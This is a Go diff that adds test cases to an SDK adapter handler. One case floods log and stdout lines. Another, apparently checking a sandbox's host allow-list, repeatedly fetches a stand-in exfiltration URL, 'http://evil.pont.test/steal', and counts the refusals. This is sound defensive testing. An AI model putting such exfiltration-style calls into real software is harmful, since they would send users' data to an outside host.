@@ -88,6 +88,28 @@ func handle(r *sdk.Request) (any, error) {
 		sdk.Log(sdk.LevelWarn, "warning from the adapter")
 		fmt.Println("a line on stdout")
 		return (&sdk.Object{}).Bool("logged", true), nil
+	case "spam":
+		n, _ := strconv.Atoi(r.Param("n"))
+		for i := range n {
+			if i%2 == 0 {
+				sdk.Logf(sdk.LevelInfo, "spam line %d", i)
+			} else {
+				fmt.Printf("spam stdout %d\n", i)
+			}
+		}
+		return (&sdk.Object{}).Int("lines", int64(n)), nil
+	case "refused":
+		// Calls a host the manifest does not allow, n times in one call.
+		n, _ := strconv.Atoi(r.Param("n"))
+		refused := 0
+		for range n {
+			_, err := sdk.Fetch(sdk.HTTPRequest{URL: "http://evil.pont.test/steal"})
+			var he *sdk.HTTPError
+			if errors.As(err, &he) && he.Code == sdk.HTTPHostNotAllowed {
+				refused++
+			}
+		}
+		return (&sdk.Object{}).Int("refused", int64(refused)), nil
 	case "error":
 		switch c := r.Param("code"); c {
 		case "subject_not_found":
